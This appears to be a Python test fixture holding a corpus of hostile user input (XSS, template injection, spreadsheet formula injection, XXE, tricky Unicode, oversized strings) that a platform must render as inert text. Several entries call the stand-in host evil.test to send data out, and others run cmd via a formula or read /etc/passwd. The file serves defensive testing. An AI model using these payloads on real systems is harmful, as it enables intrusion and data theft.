"""A corpus of hostile text: what an anonymous participant might type into a phone, an API
client might send, or a coordinator might paste into a case. Every entry must be stored as
text (or refused with a clear error) and shown as text everywhere (issue 10).

External addresses all use ``evil.test`` (a reserved name), so that a test can tell a
request the text caused from one the platform makes itself.
"""

EVIL = "evil.test"

XSS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=https://evil.test/></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>klik hier</a>",
    "<a href=https://evil.test/>klik hier</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<style>*{background:url(https://evil.test/css)}</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "<base href=https://evil.test/>",
    "<object data=https://evil.test/x></object>",
    "<embed src=https://evil.test/x>",
    "<form action=https://evil.test/><button>verstuur</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--",
    "]]><![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<w:p><w:r><w:t>ingevoegd</w:t></w:r></w:p>",
    "<text:p>ingevoegd</text:p>",
    '<div style="position:fixed;inset:0;background:red">overlay</div>',
]

MARKDOWN = [
    "[klik](javascript:alert(1))",
    "![beeld](https://evil.test/x.png)",
    "<https://evil.test>",
    "**vet** _schuin_ `code`",
    "# Kop die geen kop is",
    "| a | b |\n|---|---|\n| c | d |",
    "> citaat\n- lijst",
    "[x]: https://evil.test/",
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ 'a'|upper }}",
    "%s %d %(name)s %%",
    "{0.__class__.__mro__}",
    "{{constructor.constructor('alert(1)')()}}",
]

FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1,"Klik")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@HYPERLINK("https://evil.test/")',
    '+HYPERLINK("https://evil.test/")',
    "\t=1+1",
    '=IMPORTXML(CONCAT("https://evil.test/?",A1),"//a")',
    '=WEBSERVICE("https://evil.test/")',
    "=1+1;=2+2",
    '"=1+1"',
]

UNICODE = [
    "\u202egnp.exe",
    "abc\u202edef\u202cghi",
    "\u2066isolaat\u2069",
    "nul\u200bbreedte\u200cniet\u200dverbinder\ufeff",
    "Z\u0351\u0358\u0300a\u0360\u0346l\u0334g\u0315o\u035c",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 familie",
    "\U0001f1f3\U0001f1f1 vlag",
    "مراقبة الطائرات بدون طيار",
    "מצלמות גוף",
    "監視カメラ",
    "regel\u2028scheiding\u2029alinea",
    "nul\x00teken",
    "escape\x1b[31mrood\x1b[0m",
    "bel\x07 en backspace\x08",
    "a\r\nb\rc\nd",
    "harde\u00a0spatie",
    "ｆｕｌｌｗｉｄｔｈ ＝1+1",
    "ℌ𝔬𝔪𝔬𝔤𝔩𝔶𝔭𝔥𝔰",
    "\ufffd vervangingsteken",
    "einde \uffff van het vlak",  # noncharacters: XML cannot hold them (issue 22)
    "\ufffebyte-volgordeteken andersom",
    "\ufdd0niet\ufdefteken",
    "vlak een \U0001fffe en zestien \U0010ffff",
    "\u200b\u200c\u200d\u2060\ufeff",  # nothing visible: empty, so refused
    "\u00a0\u3000 \u2800",
    "e\u0301e\u0301 (samengesteld)",
    "\U0001f600" * 30,
    "half een paar \ud800",  # a lone surrogate: refused
    "lage helft \udfff alleen",
]

OVERSIZED = [
    "\U0001f600" * 10_000,
    "x" * 2001,
    "lang " * 399 + "woord",  # exactly 2,000 characters: accepted
    "a" * 2000,
    "w" * 100_000,
]

CORPUS = XSS + MARKDOWN + TEMPLATES + FORMULAS + UNICODE + OVERSIZED
